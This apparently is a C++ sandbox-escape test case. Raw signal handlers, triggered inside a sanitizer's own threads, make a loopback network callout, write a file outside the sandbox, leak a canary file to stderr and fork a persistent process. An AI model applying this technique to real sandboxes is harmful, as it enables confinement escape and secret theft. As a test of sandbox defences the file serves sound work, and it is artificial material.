// attack: in a second look for races, has threads of the sanitizer's own call out, open files, fork
// verdict: crashed
// wins: network
// options: --sanitizers on

#include "second_look.hpp"

#include <arpa/inet.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <thread>

// Without the sanitizer's own handling of signals, which knows only threads of the program.
struct KernelAction {
  void (*handler)(int);
  unsigned long flags;
  void (*restorer)();
  unsigned long mask;
};

unsigned short port = 0;  // read before: the sanitizer's own threads cannot call its strtol

// Nothing of the sanitizer in it: its own threads do not know where they are.
#ifdef __clang__
__attribute__((disable_sanitizer_instrumentation))
#else
__attribute__((no_sanitize("thread")))
#endif
void in_whichever_thread(int) {
  sockaddr_in there{};
  there.sin_family = AF_INET;
  there.sin_port = port;
  there.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  const long caller = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
  syscall(SYS_connect, caller, &there, sizeof there);
  const long file = syscall(SYS_openat, AT_FDCWD, "@OUTSIDE@/s10", O_WRONLY | O_CREAT, 0666);
  if (file >= 0) syscall(SYS_close, file);
  const long canary = syscall(SYS_openat, AT_FDCWD, "@CANARY@", O_RDONLY);
  char text[4096];
  if (canary >= 0) syscall(SYS_write, 2, text, syscall(SYS_read, canary, text, sizeof text));
  if (syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0) == 0) {
    syscall(SYS_setsid);
    for (;;) syscall(SYS_ppoll, nullptr, 0, nullptr, nullptr, 0);
  }
  for (;;) syscall(SYS_exit, 0);
}

void attack() {
  std::thread([] {}).join();
#ifdef RACE_LOOK
  port = htons(static_cast<unsigned short>(std::atoi("@PORT@")));
  constexpr unsigned long has_restorer = 0x04000000;
  const KernelAction action{in_whichever_thread, has_restorer, nullptr, 0};
  for (const int number : {SIGSEGV, SIGBUS, SIGTRAP, SIGABRT})
    syscall(SYS_rt_sigaction, number, &action, nullptr, 8);
  const long self = syscall(SYS_gettid);
  for (long other = self - 20; other < self + 20; ++other) {
    if (other == self) continue;
    for (const int number : {SIGSEGV, SIGBUS, SIGTRAP, SIGABRT})
      syscall(SYS_tgkill, getpid(), other, number);
  }
  usleep(200'000);
#endif
}
